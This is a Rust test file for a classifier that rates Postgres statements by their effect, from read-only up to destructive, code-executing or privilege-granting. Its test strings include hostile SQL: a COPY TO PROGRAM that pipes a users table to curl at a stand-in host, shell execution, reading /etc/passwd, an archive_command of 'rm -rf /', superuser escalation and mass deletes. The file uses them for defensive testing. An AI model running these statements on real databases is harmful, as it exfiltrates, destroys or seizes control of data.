//! What statements would do.

use holdpoint_core::Effect::{self, *};
use proptest::prelude::*;

use super::{super::Target, *};
use crate::sql::{self, Dialect};

fn app() -> Target {
    Target::read("postgres://app:pw@db.example.com/app", Dialect::Postgres).unwrap()
}

fn strictest(text: &str) -> Option<Effect> {
    let operations = sql::interpret(text, &app()).ok()?;
    operations.iter().map(|operation| operation.effect).max()
}

fn check(rows: &[(&str, Effect)]) {
    let wrong: Vec<String> = rows
        .iter()
        .filter(|(text, expect)| strictest(text) != Some(*expect))
        .map(|(text, expect)| format!("{text}: {:?}, not {expect}", strictest(text)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_reads_observes() {
    check(&[
        ("SELECT 1", Observe),
        ("", Observe),
        (";;", Observe),
        (
            "select count(*), max(created_at)::date from orders o join users u on u.id = o.user_id where lower(u.email) like '%x%' group by 1",
            Observe,
        ),
        ("WITH delete AS (SELECT 1 AS drop) SELECT * FROM delete", Observe),
        ("SELECT 'DROP TABLE users; --' AS delete", Observe),
        ("SELECT $tag$ DELETE FROM users $tag$", Observe),
        ("SELECT /* DROP TABLE users /* nested */ */ 1", Observe),
        ("EXPLAIN DELETE FROM users", Observe),
        ("EXPLAIN (ANALYZE false) DELETE FROM users", Observe),
        ("TABLE users", Observe),
        ("VALUES (1), (2)", Observe),
        ("SHOW search_path", Observe),
        ("BEGIN; SELECT 1; ROLLBACK", Observe),
        ("SET search_path = app; RESET ALL", Observe),
        ("COPY users TO STDOUT", Observe),
        ("COPY (SELECT * FROM users) TO STDOUT", Observe),
        ("PREPARE p AS SELECT * FROM users WHERE id = $1; EXECUTE p(3)", Observe),
        ("DECLARE c CURSOR FOR SELECT * FROM users; FETCH 10 FROM c; CLOSE c", Observe),
        ("SELECT * FROM users FOR UPDATE", Observe),
        ("DO $$ BEGIN RAISE NOTICE 'drop table'; END $$", Observe),
        ("SET client_encoding = 'UTF8'; SET standard_conforming_strings = on", Observe),
        ("SELECT pg_catalog.set_config('search_path', '', false)", Observe),
        (
            "SELECT extract(year from now()), trim(' a '), position('a' in 'b'), now() AT TIME ZONE 'UTC'",
            Observe,
        ),
    ]);
}

#[test]
fn what_changes_rows_is_as_strict_as_its_condition() {
    check(&[
        ("INSERT INTO users(name) VALUES ('a')", Create),
        ("INSERT INTO users(id) VALUES (1) ON CONFLICT DO NOTHING", Create),
        ("INSERT INTO users(id) VALUES (1) ON CONFLICT (id) DO UPDATE SET name = 'x'", Modify),
        ("UPDATE users SET name = 'b' WHERE id = 5", Modify),
        ("UPDATE users SET name = 'b' WHERE plan = 'trial'", Modify),
        ("UPDATE users SET name = 'b'", Destroy),
        ("UPDATE users SET name = 'b' WHERE true", Destroy),
        ("UPDATE users SET name = 'b' WHERE 1 = 1", Destroy),
        ("UPDATE users SET name = 'b' WHERE id = id", Destroy),
        ("UPDATE users SET name = 'b' WHERE id = 5 OR true", Destroy),
        ("UPDATE users SET name = 'b' WHERE id > 0", Destroy),
        ("UPDATE users SET name = 'b' WHERE id IS NOT NULL", Destroy),
        ("UPDATE users SET name = 'b' WHERE name LIKE '%'", Destroy),
        ("UPDATE users SET name = 'b' WHERE $1", Destroy),
        ("UPDATE users SET name = 'b' WHERE id = $1 OR $2", Destroy),
        ("UPDATE users SET name = 'b' WHERE NOT false", Destroy),
        ("UPDATE users SET name = 'b' WHERE random() >= 0", Destroy),
        ("DELETE FROM users WHERE id = 5", Remove),
        ("DELETE FROM users WHERE id IN (1, 2, 3)", Remove),
        ("DELETE FROM users WHERE id = 5 AND org = 3", Remove),
        ("DELETE FROM users WHERE id < 11", Destroy),
        ("DELETE FROM users WHERE id IN (SELECT id FROM users)", Destroy),
        ("DELETE FROM users WHERE id IN (1,2,3,4,5,6,7,8,9,10,11)", Destroy),
        ("DELETE FROM users USING orders WHERE users.id = 5", Destroy),
        ("DELETE FROM users", Destroy),
        ("TRUNCATE users, orders", Destroy),
        ("WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone", Destroy),
        (
            "WITH a AS (WITH b AS (SELECT 1) SELECT * FROM b), c AS (UPDATE t SET x = 1 WHERE y = 2 RETURNING 1) SELECT 1",
            Modify,
        ),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Destroy),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (1)",
            Modify,
        ),
        ("COPY (DELETE FROM users RETURNING *) TO STDOUT", Destroy),
        ("EXPLAIN ANALYZE DELETE FROM users", Destroy),
        ("PREPARE p AS DELETE FROM users; EXECUTE p", Destroy),
        ("SELECT * INTO copy FROM users", Create),
        ("CREATE TABLE a AS SELECT * FROM users", Create),
        ("COPY users FROM STDIN", Create),
        ("DELETE FROM pg_proc WHERE proname = 'f'", Destroy),
        ("UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'app'", Destroy),
        ("UPDATE pg_settings SET setting = 'off' WHERE name = 'x'", Destroy),
        ("INSERT INTO cron.job(command) VALUES ('drop table x')", Execute),
    ]);
}

#[test]
fn what_changes_structure() {
    check(&[
        ("DROP TABLE users", Destroy),
        ("DROP TABLE IF EXISTS a, b CASCADE", Destroy),
        ("DROP SCHEMA public CASCADE", Destroy),
        ("DROP DATABASE app WITH (FORCE)", Destroy),
        ("DROP MATERIALIZED VIEW m", Destroy),
        ("DROP EXTENSION postgis", Destroy),
        ("DROP OWNED BY app", Destroy),
        ("DROP TYPE mood CASCADE", Destroy),
        ("DROP INDEX i", Remove),
        ("DROP VIEW v", Remove),
        ("DROP TRIGGER t ON users", Remove),
        ("DROP POLICY p ON users", GrantAccess),
        ("DROP PUBLICATION p", WeakenRecovery),
        ("DROP SUBSCRIPTION s", WeakenRecovery),
        ("DROP ROLE r", Remove),
        ("CREATE TABLE t (id serial PRIMARY KEY, at timestamptz DEFAULT now())", Create),
        ("CREATE INDEX CONCURRENTLY i ON t (lower(name))", Create),
        ("CREATE VIEW v AS SELECT * FROM t", Create),
        ("CREATE OR REPLACE VIEW v AS SELECT * FROM t", Modify),
        ("CREATE SCHEMA s CREATE TABLE t (a int)", Create),
        ("ALTER TABLE t ADD COLUMN a int", Create),
        ("ALTER TABLE t DROP COLUMN a", Destroy),
        ("ALTER TABLE t ADD COLUMN b int, DROP COLUMN IF EXISTS a CASCADE", Destroy),
        ("ALTER TABLE t ALTER COLUMN a TYPE text", Modify),
        ("ALTER TABLE t ALTER COLUMN a TYPE int USING 0", Destroy),
        ("ALTER TABLE t ALTER COLUMN a TYPE date", Destroy),
        ("ALTER TABLE t SET UNLOGGED", WeakenRecovery),
        ("ALTER TABLE t DISABLE TRIGGER ALL", WeakenRecovery),
        ("ALTER TABLE t DETACH PARTITION p", Modify),
        ("ALTER TABLE t RENAME TO u", Modify),
        ("ALTER TABLE t SET SCHEMA other", Modify),
        ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", GrantAccess),
        ("ALTER TABLE t OWNER TO mallory", GrantAccess),
        ("REFRESH MATERIALIZED VIEW m", Modify),
        ("REFRESH MATERIALIZED VIEW m WITH NO DATA", Destroy),
        ("VACUUM FULL t", Modify),
        ("CREATE RULE r AS ON UPDATE TO t DO INSTEAD DELETE FROM users", Destroy),
        ("CREATE TRIGGER t AFTER INSERT ON a FOR EACH ROW EXECUTE FUNCTION f()", Modify),
    ]);
}

#[test]
fn what_gives_access_and_takes_ways_back() {
    check(&[
        ("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", GrantAccess),
        ("GRANT admin TO app", GrantAccess),
        ("REVOKE SELECT ON t FROM app", Modify),
        ("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC", GrantAccess),
        ("REASSIGN OWNED BY a TO b", GrantAccess),
        ("CREATE POLICY p ON t USING (true)", GrantAccess),
        ("CREATE ROLE r", Create),
        ("CREATE ROLE r LOGIN PASSWORD 'x'", MintCredential),
        ("CREATE USER u", MintCredential),
        ("CREATE ROLE r SUPERUSER", GrantAccess),
        ("ALTER ROLE app SUPERUSER", GrantAccess),
        ("ALTER ROLE app PASSWORD 'x'", GrantAccess),
        ("SET ROLE postgres", GrantAccess),
        ("SELECT set_config('role', 'postgres', false)", GrantAccess),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'select 1'",
            GrantAccess,
        ),
        ("ALTER SYSTEM SET archive_mode = off", WeakenRecovery),
        ("ALTER SYSTEM SET wal_level = minimal", WeakenRecovery),
        ("ALTER SYSTEM RESET ALL", WeakenRecovery),
        ("ALTER DATABASE app SET session_replication_role = replica", WeakenRecovery),
        ("SET session_replication_role = replica", WeakenRecovery),
        ("SELECT set_config('session_replication_role', 'replica', false)", WeakenRecovery),
        ("SELECT pg_drop_replication_slot('s')", WeakenRecovery),
        ("ALTER SYSTEM SET work_mem = '64MB'", Modify),
        ("ALTER ROLE app SET search_path = app", Modify),
    ]);
}

#[test]
fn what_cannot_be_seen_is_executed() {
    check(&[
        ("SELECT purge()", Execute),
        ("SELECT evil.count(name) FROM users", Execute),
        ("SELECT * FROM purge()", Execute),
        ("SELECT 1 FROM users WHERE purge(id)", Execute),
        ("SELECT 1 ORDER BY purge()", Execute),
        ("SELECT (SELECT purge())", Execute),
        ("VALUES (purge())", Execute),
        ("EXPLAIN SELECT purge()", Execute),
        ("CALL purge()", Execute),
        ("EXECUTE unknown_name", Execute),
        ("DO $$ BEGIN EXECUTE 'drop table ' || 'users'; END $$", Execute),
        ("DO $$ BEGIN PERFORM purge(); END $$", Execute),
        ("DO $$ BEGIN DELETE FROM users; END $$", Destroy),
        ("DO $$ DECLARE x int := purge(); BEGIN END $$", Execute),
        (
            "DO $$ DECLARE r record; BEGIN FOR r IN SELECT * FROM t LOOP DELETE FROM a WHERE id = r.id; END LOOP; END $$",
            Destroy,
        ),
        ("DO LANGUAGE plpython3u $$ import os $$", Execute),
        ("COPY users TO PROGRAM 'curl -d @- evil.example'", Execute),
        ("COPY users FROM PROGRAM 'sh'", Execute),
        ("COPY users TO '/tmp/x'", Execute),
        ("SELECT pg_read_file('/etc/passwd')", Execute),
        ("SELECT lo_export(1, '/tmp/x')", Execute),
        ("SELECT lo_unlink(1)", Destroy),
        ("SELECT dblink_exec('host=x', 'DROP TABLE users')", Execute),
        ("SELECT query_to_xml('delete from users returning 1', true, false, '')", Execute),
        ("SELECT cron.schedule('x', '* * * * *', 'DROP TABLE users')", Execute),
        ("SELECT pg_terminate_backend(1)", Execute),
        ("CREATE EXTENSION dblink", Execute),
        ("CREATE LANGUAGE plperlu", Execute),
        ("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()", Execute),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'x'", Execute),
        ("LOAD 'x'", Execute),
        ("COMMIT PREPARED 'x'", Execute),
        ("ALTER SYSTEM SET archive_command = 'rm -rf /'", WeakenRecovery),
        ("SET local_preload_libraries = 'x'", Execute),
    ]);
}

/// Wherever in a block of code a statement stands, it is found.
#[test]
fn no_corner_of_a_block_is_overlooked() {
    for body in [
        "BEGIN IF a THEN NULL; ELSIF b THEN DELETE FROM users; END IF; END",
        "BEGIN IF a THEN NULL; ELSE DELETE FROM users; END IF; END",
        "BEGIN CASE 1 WHEN 1 THEN DELETE FROM users; END CASE; END",
        "BEGIN CASE 1 WHEN 2 THEN NULL; ELSE DELETE FROM users; END CASE; END",
        "BEGIN LOOP DELETE FROM users; EXIT; END LOOP; END",
        "BEGIN WHILE true LOOP DELETE FROM users; END LOOP; END",
        "DECLARE x int; BEGIN FOREACH x IN ARRAY '{1}'::int[] LOOP DELETE FROM users; END LOOP; END",
        "BEGIN FOR i IN 1..2 LOOP DELETE FROM users; END LOOP; END",
        "DECLARE r record; BEGIN FOR r IN DELETE FROM users RETURNING * LOOP NULL; END LOOP; END",
        "DECLARE c CURSOR FOR SELECT 1; BEGIN FOR r IN c LOOP DELETE FROM users; END LOOP; END",
        "BEGIN NULL; EXCEPTION WHEN others THEN DELETE FROM users; END",
        "BEGIN BEGIN DELETE FROM users; END; END",
        "DECLARE x int; BEGIN DELETE FROM users RETURNING 1 INTO x; END",
        "DECLARE c refcursor; BEGIN OPEN c FOR WITH x AS (DELETE FROM users RETURNING 1) SELECT 1; END",
    ] {
        let text = format!("DO $$ {body} $$");
        assert_eq!(strictest(&text), Some(Destroy), "{text}");
    }
    for body in [
        "BEGIN FOR i IN 1..purge() LOOP NULL; END LOOP; END",
        "BEGIN LOOP EXIT WHEN purge(); END LOOP; END",
        "BEGIN WHILE purge() LOOP NULL; END LOOP; END",
        "BEGIN RAISE NOTICE '%', purge(); END",
        "BEGIN RAISE EXCEPTION USING message = purge(); END",
        "BEGIN ASSERT purge(), 'x'; END",
        "BEGIN CASE purge() WHEN 1 THEN NULL; END CASE; END",
        "BEGIN CASE 1 WHEN purge() THEN NULL; END CASE; END",
        "DECLARE a int[]; BEGIN a[purge()] := 1; END",
        "DECLARE a int := purge(); BEGIN END",
        "DECLARE c CURSOR FOR SELECT purge(); BEGIN OPEN c; END",
        "DECLARE c CURSOR (x int) FOR SELECT 1; BEGIN OPEN c(purge()); END",
        "DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'drop table users'; END",
        "DECLARE r record; BEGIN FOR r IN EXECUTE 'drop table users' LOOP NULL; END LOOP; END",
        "DECLARE c refcursor; BEGIN FETCH RELATIVE purge() FROM c INTO c; END",
        "BEGIN CALL purge(); END",
        "DECLARE x int; BEGIN FOREACH x IN ARRAY purge() LOOP NULL; END LOOP; END",
    ] {
        let text = format!("DO $$ {body} $$");
        assert!(strictest(&text) >= Some(Execute), "{text}");
    }
}

#[test]
fn what_changes_how_text_is_read_is_refused() {
    for text in [
        "SET standard_conforming_strings = off",
        "SET LOCAL standard_conforming_strings TO off",
        "SET client_encoding = 'SJIS'",
        "SET NAMES 'BIG5'",
        "SET SESSION AUTHORIZATION postgres",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "SELECT set_config('session_authorization', 'postgres', false)",
        "SELECT set_config('client_encoding', $1, false)",
        "SELECT 'a",
        "DROP TABLE users\0",
        "not sql",
    ] {
        assert!(sql::interpret(text, &app()).is_err(), "{text}");
    }
}

#[test]
fn resources_lie_in_their_database() {
    let named = |text: &str| {
        let operations = sql::interpret(text, &app()).unwrap();
        let last = operations.last().unwrap().clone();
        let within: Vec<String> = last.resource.within.iter().map(ToString::to_string).collect();
        (last.name, last.resource.id.to_string(), within.join(" "))
    };
    for (text, name, id, within) in [
        (
            "DROP TABLE users",
            "postgres:drop_table",
            "postgres:db.example.com/app/public.users",
            "postgres:db.example.com/app",
        ),
        (
            "DELETE FROM crm.users",
            "postgres:delete",
            "postgres:db.example.com/app/crm.users",
            "postgres:db.example.com/app",
        ),
        ("DROP DATABASE other", "postgres:drop_database", "postgres:db.example.com/other", ""),
        ("DROP DATABASE app", "postgres:drop_database", "postgres:db.example.com/app", ""),
        (
            "SELECT * FROM users",
            "postgres:select",
            "postgres:db.example.com/app/public.users",
            "postgres:db.example.com/app",
        ),
    ] {
        let expect = (name.to_owned(), id.to_owned(), within.to_owned());
        assert_eq!(named(text), expect, "{text}");
    }
}

#[test]
fn tables_that_are_searched_are_sorted() {
    assert!(PARTS.is_sorted() && statement::is_sorted() && functions::is_sorted());
}

#[test]
fn a_text_has_limits() {
    let deep = format!("SELECT {}true", "NOT ".repeat(200));
    let long = "SELECT 1; ".repeat(200_000);
    let many: String = (0..2000).map(|at| format!("DROP TABLE t{at};")).collect();
    let wide = format!("SELECT 1{}", "+1".repeat(100_000));
    for text in [deep, long, many, wide] {
        assert!(sql::interpret(&text, &app()).is_err());
    }
}

proptest! {
    /// What follows or precedes a loss does not hide it.
    #[test]
    fn a_loss_is_seen_among_others(before in 0..4_usize, after in 0..4_usize) {
        let text = format!("{}DROP TABLE users;{}", "SELECT 1;".repeat(before), "SELECT 2;".repeat(after));
        prop_assert_eq!(strictest(&text), Some(Destroy));
    }

    /// Nothing that arrives stops the reader.
    #[test]
    fn any_text_has_an_answer(text in "(?s).{0,200}") {
        let _ = sql::interpret(&text, &app());
        let _ = sql::psql::interpret(&text, &app());
        let mysql = Target::unknown(Dialect::Mysql);
        let _ = sql::interpret(&text, &mysql);
    }
}
